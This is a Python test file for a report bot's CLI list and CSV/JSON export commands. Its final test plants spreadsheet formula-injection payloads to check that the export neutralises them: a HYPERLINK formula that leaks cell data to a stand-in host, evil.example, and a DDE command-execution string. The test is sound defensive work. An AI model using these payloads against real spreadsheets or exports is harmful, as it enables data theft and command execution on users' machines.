"""`socialbot reports list` and `socialbot reports export` through click's runner."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.app import build_runtime
from bot.reports_cli import reports_group
from handlers.people import Member
from handlers.reports import ids
from handlers.reports.store import ReportStore
from handlers.views import Attachment, Values
from tests.conftest import SettingsFactory
from tests.reports.conftest import LINK

SHOT = "https://fake.slack.com/files/bo/F0SHOT/shot.png"


@pytest.fixture
async def env(make_settings: SettingsFactory, tmp_path: Path, monkeypatch) -> dict[str, str]:
    monkeypatch.chdir(tmp_path)  # no stray .env
    settings = make_settings()
    runtime = build_runtime(settings)
    core = runtime.core
    alice, bo = core.person("console", "alice", "Alice"), core.person("console", "bo", "Bo")
    await core.command("report-mention", alice, f"{LINK} lies about our prices")
    await core.command("report-mention", bo, LINK, (Attachment("shot.png", SHOT, image=True),))
    # Alice again, through the form, with a note this time: kept, not dropped as a repeat
    values: Values = {"links": f"{LINK}?s=20", "note": "Their reply is worse", "urgency": "normal"}
    await core.submit(alice, "report_mention", values, "")
    await core.submit(
        bo, "report_mention", {"about": "Radio ad mocking us", "urgency": "urgent"}, ""
    )
    runtime.db.close()
    return {"SOCIALBOT_DB": str(settings.db)}


def test_list_shows_every_report(env: dict[str, str]) -> None:
    result = CliRunner().invoke(reports_group, ["list"], env=env)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].startswith("R-0002") and "Radio ad mocking us" in lines[0]
    assert lines[1].startswith("R-0001") and "2 reporter(s)" in lines[1] and LINK in lines[1]


def test_list_json_filters_by_status(env: dict[str, str]) -> None:
    result = CliRunner().invoke(reports_group, ["list", "--status", "open", "--json"], env=env)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["ref"] for row in rows] == ["R-0002", "R-0001"]
    assert rows[1]["reporter_ids"] == ["console:alice", "console:bo"]
    assert rows[1]["links"] == [LINK] and rows[1]["where"] == "x"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", rows[1]["created_at"])
    (note,) = rows[1]["notes"]
    assert (note["by"], note["by_id"]) == ("Alice", "console:alice")
    assert (note["about"], note["note"]) == ("lies about our prices", "Their reply is worse")
    assert note["at"] == rows[1]["created_at"]
    (file,) = rows[1]["files"]
    assert file == {"by": "Bo", "by_id": "console:bo", "name": "shot.png", "url": SHOT}
    closed = CliRunner().invoke(reports_group, ["list", "--status", "resolved"], env=env)
    assert closed.stdout == "No reports.\n"


async def test_the_assignee_is_named_with_the_id_beside(
    make_settings: SettingsFactory, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.chdir(tmp_path)
    settings = make_settings(social_media_managers="console:mgr,console:boss")
    runtime = build_runtime(settings)
    core = runtime.core
    core.directory.upsert(
        [Member("console", "mgr", "Maja Manager"), Member("console", "boss", "Bo Boss")]
    )
    await core.command("report-mention", core.person("console", "alice", "Alice"), LINK)
    manager = core.person("console", "mgr", "Maja Manager")
    await core.action(manager, ids.ASSIGN_ME, str(ReportStore(runtime.db).find()[0].id))
    # review11a M10: who acknowledged and who closed a report, and when, were nowhere
    await core.command("report-mention", core.person("console", "bo", "Bo"), f"{LINK}0")
    second = str(ReportStore(runtime.db).find()[0].id)
    boss = core.person("console", "boss", "Bo Boss")
    await core.submit(boss, ids.RESOLVE_FORM, {"outcome": "ignored"}, second)
    runtime.db.close()
    env = {"SOCIALBOT_DB": str(settings.db)}

    exported = CliRunner().invoke(reports_group, ["export"], env=env)
    listed = CliRunner().invoke(reports_group, ["list", "--json"], env=env)

    closed, row = csv.DictReader(io.StringIO(exported.stdout))
    assert (row["assignee"], row["assignee_id"]) == ("Maja Manager", "console:mgr")
    assert (row["acknowledged_by"], row["acknowledged_by_id"]) == ("Maja Manager", "console:mgr")
    assert row["acknowledged_at"] >= row["created_at"] and row["closed_at"] == ""
    assert (closed["closed_by"], closed["closed_by_id"]) == ("Bo Boss", "console:boss")
    assert closed["closed_at"] >= closed["created_at"] and closed["acknowledged_by"] == ""
    _, line = listed.stdout.splitlines()
    assert json.loads(line)["assignee"] == "Maja Manager"
    assert json.loads(line)["assignee_id"] == "console:mgr"
    assert json.loads(line)["acknowledged_by"] == "Maja Manager"


def test_export_csv(env: dict[str, str]) -> None:
    result = CliRunner().invoke(reports_group, ["export", "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    # A byte order mark first: Excel opened by double-click reads the text as UTF-8.
    assert result.stdout.startswith("\ufeffref,")
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    assert [row["ref"] for row in rows] == ["R-0002", "R-0001"]
    assert rows[1]["reporters"] == "Alice\nBo"
    assert rows[1]["notes"] == "Alice: lies about our prices — Their reply is worse"
    assert rows[0]["notes"] == "Bo: Radio ad mocking us"
    assert rows[1]["files"] == f"Bo: shot.png {SHOT}"
    assert rows[0]["urgency"] == "urgent" and rows[0]["links"] == ""
    # review17a M9: the site as the card names it, not its code ("x").
    assert rows[1]["where"] == "X (Twitter)"
    bad = CliRunner().invoke(reports_group, ["export", "--format", "xlsx"], env=env)
    assert bad.exit_code == 2


async def test_export_never_hands_a_spreadsheet_a_formula(
    make_settings: SettingsFactory, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.chdir(tmp_path)
    settings = make_settings()
    runtime = build_runtime(settings)
    leak = '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")'
    sum_ = runtime.core.person("console", "mallory", "@SUM(1+1)*cmd|' /C calc'!A0")
    await runtime.core.command("report-mention", sum_, f"{LINK} {leak}")
    await runtime.core.submit(sum_, "report_mention", {"about": leak, "urgency": "normal"}, "")
    runtime.db.close()

    result = CliRunner().invoke(reports_group, ["export"], env={"SOCIALBOT_DB": str(settings.db)})

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    assert rows[0]["about"] == "'" + leak  # shown as typed, never run
    assert rows[0]["reporters"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1]["links"] == LINK and rows[1]["ref"] == "R-0001"
